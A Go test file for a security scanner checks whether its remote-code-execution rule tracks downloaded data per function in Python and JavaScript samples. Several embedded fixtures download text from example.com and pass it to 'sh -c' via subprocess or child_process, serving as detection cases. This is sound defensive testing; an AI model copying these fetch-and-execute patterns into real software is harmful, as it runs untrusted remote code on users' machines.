package audit

import "testing"

// TestTaintPerFunction: the same variable name in two functions holds two
// values; only the function whose own variable was downloaded runs
// downloaded code. Module-level names are seen from functions.
func TestTaintPerFunction(t *testing.T) {
	cases := []struct {
		name, file, src string
		remote          bool
	}{
		{"python names apart", "a.py", `import subprocess, requests
def fetch():
    data = requests.get("https://example.com/list.json").text
    return len(data)
def run(path):
    data = ["ls", path]
    subprocess.run(data)
`, false},
		{"python parameter shadows a module name", "a.py", `import subprocess, requests
data = requests.get("https://example.com/x").text
def run(data):
    subprocess.run(["sh", "-c", data])
`, false},
		{"python global seen from a function", "a.py", `import subprocess, requests
data = requests.get("https://example.com/x").text
def run():
    subprocess.run(["sh", "-c", data])
`, true},
		{"python download in one helper run in another", "a.py", `import subprocess, urllib.request
def fetch(u):
    body = urllib.request.urlopen(u).read().decode()
    return body
def run():
    subprocess.run(["sh", "-c", fetch("https://example.com/p")])
`, true},
		{"js names apart", "a.js", `const cp = require('child_process');
async function fetchIt() { const cmd = await (await fetch('https://example.com/x')).text(); return cmd.length; }
function run() { const cmd = 'ls -l'; cp.exec(cmd); }
`, false},
		{"js download in one helper run in another", "a.js", `const cp = require('child_process');
async function get(u) { const r = await fetch(u); return await r.text(); }
async function run() { cp.execSync('sh -c ' + (await get('https://example.com/p'))); }
`, true},
		{"js arrow helper", "a.js", `const cp = require('child_process');
const get = (u) => fetch(u);
function run() { cp.exec(get('https://example.com/p')); }
`, true},
	}
	for _, c := range cases {
		rep := scanDir(t, skillWith(t, map[string]string{c.file: c.src}))
		got := hasFinding(rep, want{rule: RuleCodeRemoteExec, file: c.file})
		if got != c.remote {
			t.Errorf("%s: remote exec %v, want %v:%s", c.name, got, c.remote, dump(rep))
		}
	}
}
